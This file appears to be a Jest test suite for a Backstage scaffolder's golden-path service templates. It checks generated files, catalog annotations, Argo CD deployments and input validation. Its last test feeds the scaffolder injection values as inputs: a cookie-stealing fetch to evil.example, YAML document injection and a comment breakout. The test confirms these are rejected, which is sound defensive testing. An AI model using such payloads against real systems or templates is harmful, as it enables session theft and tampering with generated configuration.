import {
  componentEntityV1alpha1Validator,
  Entity,
  FieldFormatEntityPolicy,
  SchemaValidEntityPolicy,
} from '@backstage/catalog-model';
import { parseAllDocuments } from 'yaml';
import {
  dryRun,
  generatedFiles,
  startScaffolder,
} from '../__testUtils__/scaffolderDryRun';
import { GOLDEN_PATHS, GoldenPath, loadTemplate } from './goldenPathTemplates';

jest.setTimeout(60_000);

const VALUES: Record<GoldenPath, Record<string, string>> = {
  'java-service': {
    name: 'refund-service',
    description:
      'Issues refunds for paid invoices and records them in the ledger.',
    owner: 'group:default/team-billing',
    system: 'system:default/invoicing',
    lifecycle: 'experimental',
    javaPackage: 'com.quillstack.refunds',
  },
  'go-service': {
    name: 'rate-limiter',
    description:
      'Answers whether a tenant may make another API call this second.',
    owner: 'group:default/team-platform',
    system: 'system:default/platform',
    lifecycle: 'experimental',
  },
  'react-web-app': {
    name: 'billing-portal',
    description:
      'Lets customers download invoices and update their payment method.',
    owner: 'group:default/team-frontend',
    system: 'system:default/customer-apps',
    lifecycle: 'experimental',
  },
  'react-native-app': {
    name: 'field-sales-app',
    description:
      'Lets the field sales team create quotes and invoices on the go.',
    owner: 'group:default/team-frontend',
    system: 'system:default/customer-apps',
    lifecycle: 'experimental',
  },
};

/** Files every golden path's repository has, whatever the language. */
const SHARED_FILES = [
  '.github/workflows/ci.yaml',
  'Dockerfile',
  'README.md',
  'catalog-info.yaml',
  'deploy/argocd/applications.yaml',
  'deploy/helm/Chart.yaml',
  'deploy/helm/templates/_helpers.tpl',
  'deploy/helm/templates/deployment.yaml',
  'deploy/helm/templates/hpa.yaml',
  'deploy/helm/templates/service.yaml',
  'deploy/helm/values-development.yaml',
  'deploy/helm/values-production.yaml',
  'deploy/helm/values-staging.yaml',
  'deploy/helm/values.yaml',
  'docs/development.md',
  'docs/index.md',
  'docs/runbook.md',
  'mkdocs.yml',
];

const OWN_FILES: Record<GoldenPath, string[]> = {
  'java-service': [
    'pom.xml',
    'src/main/java/com/quillstack/refunds/Application.java',
    'src/main/java/com/quillstack/refunds/ServiceInfo.java',
    'src/main/java/com/quillstack/refunds/ServiceInfoController.java',
    'src/main/resources/application.yaml',
    'src/test/java/com/quillstack/refunds/HealthEndpointTest.java',
    'src/test/java/com/quillstack/refunds/ServiceInfoTest.java',
  ],
  'go-service': [
    'go.mod',
    'main.go',
    'router.go',
    'router_test.go',
    'internal/observability/observability.go',
    'internal/observability/observability_test.go',
  ],
  'react-web-app': [
    'package.json',
    'index.html',
    'vite.config.ts',
    'tsconfig.json',
    'nginx.conf',
    'src/main.tsx',
    'src/App.tsx',
    'src/App.test.tsx',
    'src/observability.ts',
    'src/setupTests.ts',
  ],
  'react-native-app': [
    'package.json',
    'app.json',
    'babel.config.js',
    'tsconfig.json',
    'nginx.conf',
    'App.tsx',
    'App.test.tsx',
    'index.ts',
    'src/observability.ts',
  ],
};

/** Helm's templates are Go templates, YAML only once Helm renders them. */
const isPlainYaml = (file: string) =>
  /\.ya?ml$/.test(file) && !file.startsWith('deploy/helm/templates/');

describe.each(GOLDEN_PATHS)('the %s golden path', name => {
  let files: Map<string, string>;
  let output: any;

  beforeAll(async () => {
    const generated = await generatedFiles(
      await startScaffolder(),
      name,
      VALUES[name],
    );
    files = new Map(
      [...generated.files].map(([file, content]) => [
        file,
        content.toString('utf8'),
      ]),
    );
    output = generated.output;
  });

  it('generates the skeleton and every shared part', () => {
    expect([...files.keys()].sort()).toEqual(
      [
        ...SHARED_FILES,
        ...OWN_FILES[name],
        '.dockerignore',
        '.gitignore',
      ].sort(),
    );
  });

  it('substitutes every value (no ${{ left, and GitHub Actions expressions only in the workflow)', () => {
    const scaffolderExpression =
      /\$\{\{\s*((values|parameters|user)\b|steps\.[\w-]+\.output\b)/;
    const unsubstituted = [...files]
      .filter(
        ([file, content]) =>
          scaffolderExpression.test(content) ||
          (!file.startsWith('.github/workflows/') && content.includes('${{')),
      )
      .map(([file]) => file);
    expect(unsubstituted).toEqual([]);
    expect(files.get('.github/workflows/ci.yaml')).toContain(
      '${{ steps.ecr.outputs.registry }}',
    );
  });

  it('writes YAML that parses', () => {
    for (const [file, content] of files) {
      if (!isPlainYaml(file)) continue;
      for (const document of parseAllDocuments(content)) {
        expect({ file, errors: document.errors.map(e => e.message) }).toEqual({
          file,
          errors: [],
        });
      }
    }
  });

  it('writes a catalog entity that validates, with every annotation the portal reads', async () => {
    const entity = parseAllDocuments(
      files.get('catalog-info.yaml')!,
    )[0].toJS() as Entity;
    expect(await componentEntityV1alpha1Validator.check(entity)).toBe(true);
    await expect(
      new SchemaValidEntityPolicy().enforce(entity),
    ).resolves.toBeDefined();
    await expect(
      new FieldFormatEntityPolicy().enforce(entity),
    ).resolves.toBeDefined();
    const serviceName = VALUES[name].name;
    expect(entity.metadata.name).toBe(serviceName);
    expect(entity.metadata.annotations).toEqual({
      'github.com/project-slug': `quillstack/${serviceName}`,
      'argocd/app-selector': `backstage-name=${serviceName}`,
      'backstage.io/kubernetes-id': serviceName,
      'datadog/dashboard-url': expect.stringMatching(
        /^https:\/\/app\.datadoghq\.com\//,
      ),
      'sentry/project-slug': `quillstack/${serviceName}`,
      'opencost/service-label': serviceName,
      'n8n/workflows': expect.any(String),
      'backstage.io/techdocs-ref': 'dir:.',
    });
    expect(entity.spec).toMatchObject({
      owner: VALUES[name].owner,
      system: VALUES[name].system,
      lifecycle: 'experimental',
    });
    expect(output.links).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          entityRef: `component:default/${serviceName}`,
        }),
      ]),
    );
  });

  it('deploys to development, staging and production through Argo CD applications the portal finds', () => {
    const serviceName = VALUES[name].name;
    const applications = parseAllDocuments(
      files.get('deploy/argocd/applications.yaml')!,
    )
      .map(d => d.toJS())
      .filter(Boolean);
    expect(applications.map(a => [a.metadata.name, a.metadata.labels])).toEqual(
      ['development', 'staging', 'production'].map((environment, i) => [
        `${serviceName}-${['dev', 'staging', 'prod'][i]}`,
        { 'backstage-name': serviceName, environment },
      ]),
    );
    expect(applications[2].spec.syncPolicy.automated).toBeUndefined();
    expect(files.get('deploy/helm/templates/deployment.yaml')).toMatch(
      /livenessProbe[\s\S]*readinessProbe[\s\S]*resources/,
    );
    const values = parseAllDocuments(
      files.get('deploy/helm/values.yaml')!,
    )[0].toJS();
    expect(values.resources.requests).toEqual({
      cpu: expect.any(String),
      memory: expect.any(String),
    });
    expect(values.resources.limits).toEqual({
      cpu: expect.any(String),
      memory: expect.any(String),
    });
  });

  it('builds a multi-stage image that runs as a non-root user', () => {
    const dockerfile = files.get('Dockerfile')!;
    expect(dockerfile.match(/^FROM /gm)!.length).toBeGreaterThanOrEqual(2);
    expect(dockerfile).toMatch(/^USER (?!root|0\b)\S+/m);
  });
});

describe('template parameters', () => {
  it('asks the same first page in every golden path', () => {
    const [first, ...others] = GOLDEN_PATHS.map(
      name => loadTemplate(name).spec.parameters[0],
    );
    expect(first.required).toEqual(['name', 'description', 'owner', 'system']);
    for (const page of others) expect(page).toEqual(first);
  });

  it('refuses a name that is not a valid service name, with the field in the error', async () => {
    const server = await startScaffolder();
    const response = await dryRun(server, 'go-service', {
      ...VALUES['go-service'],
      name: 'Rate_Limiter',
    });
    expect(response.status).toBe(400);
    expect(JSON.stringify(response.body.errors)).toContain('name');
  });

  it('refuses a Java package name that is not one', async () => {
    const server = await startScaffolder();
    const response = await dryRun(server, 'java-service', {
      ...VALUES['java-service'],
      javaPackage: 'Com.Quillstack.1refunds',
    });
    expect(response.status).toBe(400);
    expect(JSON.stringify(response.body.errors)).toContain('javaPackage');
  });

  it.each([
    [
      'owner',
      'group:default/team-billing\n---\nkind: Component\nmetadata: {name: payments}',
    ],
    ['system', 'system:default/invoicing\nextra: true'],
    ['owner', 'user:default/erik-larsen'],
    [
      'description',
      'Renders invoices {fetch(`//evil.example/?` + document.cookie)}',
    ],
    ['description', 'Closes the comment */ class X {} /*'],
    ['description', 'Two lines\nof text that go on'],
  ])(
    'refuses a %s that could inject into the generated files (%j)',
    async (field, value) => {
      const server = await startScaffolder();
      const response = await dryRun(server, 'react-web-app', {
        ...VALUES['react-web-app'],
        [field]: value,
      });
      expect(response.status).toBe(400);
      expect(JSON.stringify(response.body.errors)).toContain(field);
    },
  );
});
